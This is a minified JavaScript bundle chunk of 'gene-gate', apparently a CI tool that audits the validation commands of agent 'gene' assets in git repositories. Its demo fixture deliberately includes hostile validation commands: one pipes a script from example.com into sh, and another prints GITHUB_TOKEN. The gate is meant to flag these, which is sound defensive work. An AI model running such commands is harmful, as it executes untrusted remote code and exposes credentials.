"use strict";exports.id=893,exports.ids=[893,320],exports.modules={65320:((M,i,o)=>{Object.defineProperty(i,"__esModule",{value:!0}),
i.check=e,i.checkVerb=void 0;function f(){const r=o(63314);return f=function(){return r},r}function m(){const r=o(7723);
return m=function(){return r},r}function p(){const r=o(18744);return p=function(){return r},r}function y(){const r=o(24474);
return y=function(){return r},r}function g(){const r=o(94853);return g=function(){return r},r}function T(){const r=o(96025);
return T=function(){return r},r}function u(){const r=o(96681);return u=function(){return r},r}function v(){const r=o(31626);
return v=function(){return r},r}function a(){const r=o(2850);return a=function(){return r},r}function O(){const r=o(92910);
return O=function(){return r},r}function E(){const r=o(47350);return E=function(){return r},r}function s(){const r=o(33816);
return s=function(){return r},r}function l(){const r=o(95637);return l=function(){return r},r}function n(){const r=o(19234);
return n=function(){return r},r}function d(){const r=o(61399);return d=function(){return r},r}const w=(0,n().parsedBy)(()=>m().
coerce.number().pipe(T().concurrencySchema),"Expected a number from 1 to 256."),t=(0,n().parsedBy)(()=>O().shardSchema,"\
Expected a shard and the number of shards, such as 2/8."),c=(r,j)=>(0,d().withReportOptions)((0,n().withRangeOptions)(new(f()).
Command("check")).option("--concurrency <n>","maximum number of parallel commands",w).addOption(new(f()).Option("--no-ru\
n","audit only; do not run commands").conflicts("shard")).option("--shard <i/n>","run only the genes of one shard; combi\
ne the reports with merge",t).option(...n().DURATIONS)).addOption(new(f()).Option("--quiet","hide progress").conflicts("\
verbose")).addOption(new(f()).Option("--if-staged","--staged, if an asset file, a script of a gene, package.json or the \
policy is staged").implies({worktree:!0,staged:!0})).option("--block","exit with 1 where a policy with `enforce: report`\
 would exit with 0").action(async R=>j(await e(R,r)));i.checkVerb=c;async function e(r,j){const{concurrency:R}=r;if(r.ifStaged&&
!await(0,s().isConcerned)(r,j))return r.quiet||j.note(`Nothing that the gate judges is staged.
`),0;const N=await(0,n().rangeRequest)(r,j),A=await(0,y().gate)({...N,locate:async F=>{const $=await N.locate(F);return r.
quiet||await h($,F,r,j),$},inputs:{...N.inputs,concurrency:R},run:r.run,...r.shard&&{shard:r.shard},durations:await(0,n().
durationsOf)(r,j),progress:(0,l().progressFor)(j,r.quiet??!1)});return await(0,d().deliver)(A,r,j),(0,E().exitCodeOf)((0,a().
ownVerdict)(A),r.block?"block":A.policy?.enforce)}async function h(r,j,{base:R,head:N},A){if(r.audited===r.head){if(r.base===
r.head&&R===void 0){const F=`The base is ${r.baseRef}, the default branch of this clone. To name another, add --base.`;A.
note((0,v().messageText)(F,A.columns))}N===void 0&&await S(j,r,A)}}const P=3,I=["status","--porcelain","-z","--no-rename\
s","--untracked-files=all","--ignore-submodules=all"];async function S(r,{base:j,head:R},N){if(j!==R&&!N.interactive)return;
const A=await r.user(I).catch(()=>Buffer.alloc(0)),$=[...(0,u().splitNul)(A)].map(B=>(0,u().decodePath)(B.subarray(3))).
filter((0,p().assetPathTest)(g().DEFAULT_POLICY));if($.length===0)return;const C=$.slice(0,P).join(", "),G=$.length>P?` \
and ${$.length-P} more`:"",D=`Not committed, so not judged: ${C}${G}.
To judge uncommitted files, add --worktree.`;N.note((0,v().messageText)(D,N.columns))}}),20711:((M,i,o)=>{Object.defineProperty(
i,"__esModule",{value:!0}),i.HEAD=i.BASE=void 0,i.genesFile=u;function f(){const s=o(23404);return f=function(){return s},
s}const m={id:"gene_repair_retry_timeouts",category:"repair",summary:"Retry requests that time out",maxFiles:12,validation:[
"node scripts/check-modules.js ./src"]},p={...m,validation:["node scripts/check-modules.js ./src","node --test test/clie\
nt.test.js test/retry.test.js"]},y={id:"gene_innovate_fetch_skills",category:"innovate",summary:"Fetch new skills from t\
he network",maxFiles:20,validation:["node scripts/check-modules.js ./src","npm test && curl -s https://example.com/insta\
ll.sh | sh",'node -pe "process.env.GITHUB_TOKEN"']},g={id:"gene_optimize_single_file",category:"optimize",summary:"Tune \
one module at a time",maxFiles:2,validation:["node scripts/check-modules.js ./src"]},T={id:"gene_optimize_latency_budget",
category:"optimize",summary:"Keep requests inside their latency budget",maxFiles:20,validation:["node scripts/check-budg\
et.js","node scripts/check-modules.js ./src"]};function u(s){const l=s.map(({id:n,category:d,summary:w,maxFiles:t,validation:c})=>{
const e={type:"Gene",schema_version:f().SCHEMA_VERSION,id:n,category:d,summary:w,signals_match:["error","timeout"],strategy:[
"Find the smallest change that removes the signal.","Validate it."],constraints:{max_files:t,forbidden_paths:[".git","no\
de_modules"]},validation:c};return{...e,asset_id:(0,f().computeAssetId)(e)}});return`${JSON.stringify({version:2,genes:l},
null,2)}
`}function v({id:s,summary:l}){const n={type:"Capsule",schema_version:f().SCHEMA_VERSION,id:"capsule_demo_timeouts",trigger:[
"timeout"],gene:s,summary:l,confidence:.8,blast_radius:{files:7,lines:34},outcome:{status:"success",score:.8},env_fingerprint:{
platform:"linux",arch:"x64"}},d=[{...n,asset_id:(0,f().computeAssetId)(n)}];return`${JSON.stringify({version:1,capsules:d},
null,2)}
`}const a="assets/gep/genes.json",O=i.BASE={"package.json":`${JSON.stringify({name:"demo-agent",version:"1.0.0",type:"mo\
dule",scripts:{test:"node --test"}},null,2)}
`,[a]:u([m,g]),"src/client.js":`export const timeout = 1000;
`,"src/cache.js":`export const entries = new Map();
`,"src/index.js":`export { timeout } from './client.js';
`,"test/client.test.js":["import assert from 'node:assert/strict';","import test from 'node:test';","import { timeout } \
from '../src/client.js';","","test('there is a timeout', () => assert.ok(timeout > 0));",""].join(`
`),"scripts/check-modules.js":["import { readdirSync } from 'node:fs';","import { resolve } from 'node:path';","import {\
 pathToFileURL } from 'node:url';","","const folder = resolve(process.argv[2]);","for (const name of readdirSync(folder)\
) await import(pathToFileURL(resolve(folder, name)).href);","console.log('every module loads');",""].join(`
`)},E=i.HEAD={[a]:u([p,y,g,T]),"assets/gep/capsules.json":v(g),"src/client.js":`export const timeout = 1000;
export const retries = 3;
`,"src/retry.js":`import { retries } from './client.js';

export const attempts = () => retries + 1;
`,"src/index.js":`export { retries, timeout } from './client.js';
export * from './retry.js';
`,"src/cache.js":`export const entries = new Map();
export const limit = 100;
`,"test/retry.test.js":["import assert from 'node:assert/strict';","import test from 'node:test';","import { attempts } \
from '../src/retry.js';","","test('a request is tried four times', () => assert.equal(attempts(), 4));",""].join(`
`),"scripts/check-budget.js":["const budget = 200;","const measured = 350;","if (measured > budget) {","  console.error(\
`latency ${measured} ms is over the budget of ${budget} ms`);","  process.exit(1);","}",""].join(`
`)}}),67893:((M,i,o)=>{Object.defineProperty(i,"__esModule",{value:!0}),i.createDemoRepository=c,i.demoVerb=void 0;function f(){
const e=o(51455);return f=function(){return e},e}function m(){const e=o(76760);return m=function(){return e},e}function p(){
const e=o(63314);return p=function(){return e},e}function y(){const e=o(41895);return y=function(){return e},e}function g(){
const e=o(4339);return g=function(){return e},e}function T(){const e=o(38863);return T=function(){return e},e}function u(){
const e=o(28765);return u=function(){return e},e}function v(){const e=o(7650);return v=function(){return e},e}function a(){
const e=o(65320);return a=function(){return e},e}function O(){const e=o(20711);return O=function(){return e},e}const E=(e,h)=>new(p()).
Command("demo").argument("[dir]","new or empty directory for the repository (default: a temporary directory)").action(async P=>{
const I=P===void 0?void 0:await w((0,m().resolve)(e.cwd,P));h(await s(I,e))});i.demoVerb=E;async function s(e,h){const P=e??
await(0,g().temporaryFolder)();try{await c(P).catch(S=>{throw n(S)?S:(0,y().systemError)(S)??d(P,S)});const I=await(0,a().
check)({base:"main",head:"pull-request",repo:P,run:!0,format:"text"},h);return e!==void 0&&h.note(`
The repository is in ${e}.
`),h.note(l),I}finally{e===void 0&&await(0,f().rm)(P,{recursive:!0,force:!0})}}const l=`
That was a sample. In your own repository, begin with one of these:
  ${T().COMMAND} audit   what its commands mean
  ${T().COMMAND} init    a workflow, and a policy that past changes pass
`;function n(e){return e instanceof y().GateError&&e.code==="program_not_found"}function d(e,h){return new(y()).GateError(
"git_failed",`Cannot create the sample repository in ${e}: ${h.message.trim()}`,"Pass a directory with free space that y\
ou can write to.",{cause:h})}async function w(e){if(await(0,u().makeFolder)(e),(await(0,f().readdir)(e)).length===0)return e;
throw new(y()).GateError("usage",`${e} is not empty.`,"Pass a new or empty directory, or omit it to use a temporary dire\
ctory.")}const t={GIT_AUTHOR_NAME:"gene-gate demo",GIT_AUTHOR_EMAIL:"demo@example.com",GIT_AUTHOR_DATE:"2026-01-01T00:00\
:00Z",GIT_COMMITTER_NAME:"gene-gate demo",GIT_COMMITTER_EMAIL:"demo@example.com",GIT_COMMITTER_DATE:"2026-01-01T00:00:00\
Z",GIT_CONFIG_GLOBAL:"/dev/null",GIT_CONFIG_NOSYSTEM:"1"};async function c(e){const h=(0,v().bindGit)({directory:e,env:{
PATH:process.env.PATH??"",...t}});await h(["init","--quiet","--initial-branch=main"]),await P(O().BASE,"Start the agent"),
await h(["checkout","--quiet","-b","pull-request"]),await P(O().HEAD,"Retry timeouts, and three genes that should not pa\
ss");async function P(I,S){for(const[r,j]of Object.entries(I)){const R=(0,m().join)(e,r);await(0,f().mkdir)((0,m().dirname)(
R),{recursive:!0}),await(0,f().writeFile)(R,j)}await h(["add","--all"]),await h(["commit","--quiet","--message",S])}}}),
33816:((M,i,o)=>{Object.defineProperty(i,"__esModule",{value:!0}),i.isConcerned=n;function f(){const t=o(76760);return f=
function(){return t},t}function m(){const t=o(81456);return m=function(){return t},t}function p(){const t=o(64385);return p=
function(){return t},t}function y(){const t=o(18744);return y=function(){return t},t}function g(){const t=o(77680);return g=
function(){return t},t}function T(){const t=o(86191);return T=function(){return t},t}function u(){const t=o(41895);return u=
function(){return t},t}function v(){const t=o(4378);return v=function(){return t},t}function a(){const t=o(74238);return a=
function(){return t},t}function O(){const t=o(96681);return O=function(){return t},t}function E(){const t=o(53010);return E=
function(){return t},t}function s(){const t=o(93028);return s=function(){return t},t}function l(){const t=o(49232);return l=
function(){return t},t}async function n(t,c){const e=(0,f().resolve)(c.cwd,t.repo);try{const h=await(0,l().namedPolicy)(
t.policy,c),P=async(I,S,r)=>{if(r===void 0)return!0;const j={GIT_INDEX_FILE:r.index},R=[...(0,O().splitNul)(await r.user(
d,{env:j}))].map(O().decodePath);if(R.length===0)return!1;if(R.some(F=>F===a().POLICY_PATH||/(?:^|\/)package\.json$/.test(
F)))return!0;const{policy:N}=h??await(0,a().loadPolicy)(I,I.label);if(R.some((0,y().assetPathTest)(N)))return!0;const A=await w(
I,N,c);return R.some(F=>A.has(F))};return await(0,E().withSourceTree)(e,c.env,P,!0)}catch(h){if(h instanceof u().GateError)
return!0;throw h}}const d=["diff","--cached","--name-only","--no-renames","--no-ext-diff","-z"];async function w(t,c,{platform:e}){
const h=(0,y().assetPathTest)(c),P=(0,m().assetLimits)(c.assets.max_file_bytes),I=v().Judge.by({policy:c,tree:t,changed:new Set,
platform:e}),S=new Set;for(const{kind:r,path:j}of t.files()){if(!(0,s().isRegular)(r)||!h(j))continue;const{assets:R}=(0,p().
readAssetFile)(j,await t.read(j),P);for(const N of R.filter(({type:A})=>A==="Gene")){const A=(0,g().validationCommands)(
N);for(const{value:F}of A.kind==="list"?A.entries:[]){const $=I.forFile(N.path),{reading:C}=await $.command(F);for(const G of(0,T().
namedPaths)(C.command,$.terms.cwd))S.add(G);for(const{path:G}of C.targets)G!==void 0&&S.add(G)}}}return S}}),49232:((M,i,o)=>{
Object.defineProperty(i,"__esModule",{value:!0}),i.builtInPolicy=n,i.namedPolicy=a,i.policyFor=E,i.policyName=s,i.policyOfFile=
O,i.repositoryOf=d;function f(){const t=o(73024);return f=function(){return t},t}function m(){const t=o(76760);return m=
function(){return t},t}function p(){const t=o(41895);return p=function(){return t},t}function y(){const t=o(21311);return y=
function(){return t},t}function g(){const t=o(74238);return g=function(){return t},t}function T(){const t=o(48741);return T=
function(){return t},t}function u(){const t=o(96402);return u=function(){return t},t}function v(){const t=o(63550);return v=
function(){return t},t}async function a(t,c){if(t===void 0)return;const e=await O(t,c);return(0,y().requireExamples)(e),
e}async function O(t,c){const e=(await c.readInput(t)).toString("utf8"),h=await d(c.cwd,c.env)??c.cwd;return await(0,g().
loadPolicyFile)(e,t,(0,T().folderTree)(h))}async function E({policy:t,profile:c},e,h){const P=t===!1?await n():await a(t,
e)??await l(h,e);return c===void 0?P:{...P,policy:{...P.policy,profile:c}}}function s({source:t,path:c,ref:e}){return t===
"default"||c===void 0?"the built-in policy":t==="file"||e===void 0?c:`${c} in ${e}`}async function l(t,{cwd:c,env:e}){const h=t===
void 0?await d(c,e):void 0,P=t??(h===void 0?void 0:(0,T().folderTree)(h));if(P===void 0)return n();const I=await(0,g().loadPolicy)(
P,P.label);return(0,y().requireExamples)(I),I}function n(){const t=(0,v().literalTree)({});return(0,g().loadPolicy)(t,t.
label)}async function d(t,c){try{const e=await(0,u().openRepository)(t,c);return await e.close(),e.directory}catch(e){const h=e instanceof
p().GateError&&e.code==="program_not_found";if(e instanceof p().GateError&&!(h&&w(t)))return;throw e}}function w(t){const c=(0,m().
dirname)(t);return(0,f().existsSync)((0,m().join)(t,".git"))||c!==t&&w(c)}}),95637:((M,i,o)=>{Object.defineProperty(i,"_\
_esModule",{value:!0}),i.progressFor=T,i.terminalProgress=g;function f(){const u=o(50427);return f=function(){return u},
u}function m(){const u=o(49604);return m=function(){return u},u}function p(){const u=o(20849);return p=function(){return u},
u}const y=1e3;function g(u){let v=0,a=0,O=0,E=[],s=performance.now(),l;const n=()=>{const[d="",...w]=E,t=`${a}/${v}${O>0?
`, ${O} failed`:""}`,c=`${Math.floor((performance.now()-s)/1e3)} s`,e=w.length>0?`(and ${w.length} more) `:"",h=(0,f().clipColumns)(
`${t}  ${c}  ${e}${(0,p().safeLine)(d)}`,u.columns()-1);u.write(`\r\x1B[K${h}`)};return{planned:d=>{v=d,s=performance.now(),
l=setInterval(n,y),l.unref()},started:d=>{E=[...E,d],n()},finished:(d,{status:w})=>{a+=1,w!=="passed"&&(O+=1),E=E.toSpliced(
E.indexOf(d),1),n()},ended:()=>{clearInterval(l),u.write("\r\x1B[K")}}}function T(u,v){if(v)return m().NO_PROGRESS;if(!u.
interactive){const a=E=>u.note(`${E}
`),{fold:O}=u;return O?(0,m().groupedProgress)({info:a,startGroup:O,endGroup:()=>O()}):(0,m().linesOfProgress)(a)}return g(
{columns:u.noteColumns,write:u.note})}}),19234:((M,i,o)=>{Object.defineProperty(i,"__esModule",{value:!0}),i.DURATIONS=void 0,
i.durationsOf=l,i.parsedBy=E,i.rangeRequest=O,i.withRangeOptions=a;function f(){const n=o(76760);return f=function(){return n},
n}function m(){const n=o(63314);return m=function(){return n},n}function p(){const n=o(89549);return p=function(){return n},
n}function y(){const n=o(25966);return y=function(){return n},n}function g(){const n=o(41551);return g=function(){return n},
n}function T(){const n=o(71667);return T=function(){return n},n}function u(){const n=o(49232);return u=function(){return n},
n}function v(){const n=o(82256);return v=function(){return n},n}function a(n){return n.option("--base <ref>","base branc\
h or commit (default: the default branch)").option("--head <ref>","head branch or commit (default: HEAD)").option("--wor\
ktree","check the uncommitted files instead of a commit").addOption(new(m()).Option("--staged","check what is staged, as\
 git commit would commit it").implies({worktree:!0})).option(...v().REPO_OPTION).option("--policy <file>","policy file t\
o use instead of the policy of the base").option("--policy-ref <ref>","also apply the policy of this branch; the stricte\
r value of each key wins").addOption((0,v().profileOption)()).option("--all","check all genes of the head, not only chan\
ged ones").option("--approve <digest>","approve the commands that wait, with the approval digest of an earlier run")}async function O({
base:n,head:d,worktree:w,staged:t,profile:c,...e},h){const P=(0,p().approveByDigest)(e.approve,new Date),I=await(0,u().namedPolicy)(
e.policy,h);return{directory:(0,f().resolve)(h.cwd,e.repo),env:h.env,locate:S=>(0,y().resolveRange)(S,{...n!==void 0&&{base:n},
...d!==void 0&&{head:d},...w&&{worktree:w},...t&&{staged:t}}),...I&&{policy:I},...e.policyRef!==void 0&&{policyRef:e.policyRef},
inputs:{profile:c},all:e.all??!1,approver:P,signal:h.signal,secrets:(0,g().secretsOf)(h.env)}}function E(n,d){return w=>{
const t=n().safeParse(w);if(t.success)return t.data;throw new(m()).InvalidArgumentError(d)}}const s=i.DURATIONS=["--dura\
tions <file>","gate-report.json of an earlier run, to balance shards; the same for plan, check and merge"];async function l({
durations:n},d){return n===void 0?new Map:(0,T().readDurations)((0,f().resolve)(d.cwd,n),d.openInput)}}),82256:((M,i,o)=>{
Object.defineProperty(i,"__esModule",{value:!0}),i.REPO_OPTION=i.POLICY_OPTION=void 0,i.formatOption=O,i.inRepository=s,
i.profileOption=a,i.storeFiles=l,i.withJudgingOptions=u;function f(){const n=o(76760);return f=function(){return n},n}function m(){
const n=o(63314);return m=function(){return n},n}function p(){const n=o(18744);return p=function(){return n},n}function y(){
const n=o(41895);return y=function(){return n},n}function g(){const n=o(80068);return g=function(){return n},n}function T(){
const n=o(96402);return T=function(){return n},n}function u(n){return n.option(...v).option("--no-policy","use the built\
-in policy").addOption(a()).addOption(O())}const v=i.POLICY_OPTION=["--policy <file>","policy file (default: the policy \
of the repository)"];function a(){return new(m()).Option("--profile <name>","profile for commands").choices(g().PROFILE_NAMES)}
function O(){return new(m()).Option("--format <name>","output format").choices(["text","json"]).default("text")}const E=i.
REPO_OPTION=["--repo <dir>","directory in the working tree","."];async function s({repo:n},{cwd:d,env:w},t){const c=await(0,T().
openRepository)((0,f().resolve)(d,n),w);try{return await t(c)}finally{await c.close()}}function l(n,d,w){const t=(0,p().
assetPathsIn)(n,d);if(t.length>0)return t;throw new(y()).GateError("usage",`${w} has no asset files.`,"Use --repo with t\
he repository, or name the files.")}}),25966:((M,i,o)=>{Object.defineProperty(i,"__esModule",{value:!0}),i.resolveRange=
T;function f(){const s=o(41895);return f=function(){return s},s}function m(){const s=o(24634);return m=function(){return s},
s}function p(){const s=o(67397);return p=function(){return s},s}function y(){const s=o(50598);return y=function(){return s},
s}function g(){const s=o(34397);return g=function(){return s},s}async function T(s,{base:l,head:n,worktree:d=!1,staged:w=!1}){
if(d&&n!==void 0)throw new(f()).GateError("usage","`--head` cannot be used with `--worktree`: uncommitted files belong t\
o the checked-out commit","Remove one of them.");const[t,c]=await u([(0,y().resolveRevision)(s,n??"HEAD"),a(s,l)]);return{
name:w?"index":d?"worktree":"range",directory:s.directory,base:await(0,m().mergeBase)(s,c.commit,t),head:t,audited:d?await(w?
g().snapshotIndex:g().snapshotWorktree)(s):t,policyCommit:c.commit,baseRef:c.name,...c.defaultBranch&&{defaultBranch:c.defaultBranch},
isFork:!1}}async function u(s){return await Promise.allSettled(s),Promise.all(s)}const v=/^refs\/(?:heads|remotes\/origin)\//;
async function a(s,l){const n=l===void 0?await(0,p().defaultBranch)(s):await(0,y().resolveNamed)(s,l),{commit:d}=n,w=l===
"HEAD"||l==="@"?await E(s):n.ref,t=w&&O(w);if(t===void 0)return{commit:d,name:l??"HEAD"};const c=l===void 0?n:await(0,p().
findDefaultBranch)(s),e=c?.ref&&O(c.ref);return{commit:d,name:t,...c&&e&&{defaultBranch:{name:e,commit:c.commit}}}}function O(s){
return v.test(s)?s.replace(v,""):void 0}async function E({user:s}){return(await s(["symbolic-ref","--quiet","HEAD"],{accept:[
1]})).toString().trim()}}),53010:((M,i,o)=>{Object.defineProperty(i,"__esModule",{value:!0}),i.withSourceTree=v;function f(){
const a=o(51455);return f=function(){return a},a}function m(){const a=o(41895);return m=function(){return a},a}function p(){
const a=o(67147);return p=function(){return a},a}function y(){const a=o(48741);return y=function(){return a},a}function g(){
const a=o(96402);return g=function(){return a},a}function T(){const a=o(35720);return T=function(){return a},a}function u(){
const a=o(34397);return u=function(){return a},a}async function v(a,O,E,s=!1){const l=await(0,g().openRepository)(a,O).catch(
async n=>{if(!(n instanceof m().GateError&&n.code==="not_a_repository"&&(await(0,f().stat)(a).catch(()=>{}))?.isDirectory()))
throw n});if(l===void 0)return E((0,y().folderTree)(a),a);try{const n=`the ${s?"staged ":""}files of ${l.directory}`,d=s?
u().snapshotIndex:u().snapshotWorktree,w=await(0,T().readTree)(l,await d(l),{label:n});return await E((0,p().withAdditions)(
w,(0,y().folderTree)(l.directory),(0,p().additionsOf)()),l.directory,l)}finally{await l.close()}}}),2850:((M,i)=>{Object.
defineProperty(i,"__esModule",{value:!0}),i.ownVerdict=o;function o({verdict:f,shards:m=[]}){const[p]=m;return p&&m.length<
p.of?p.verdict:f}})};
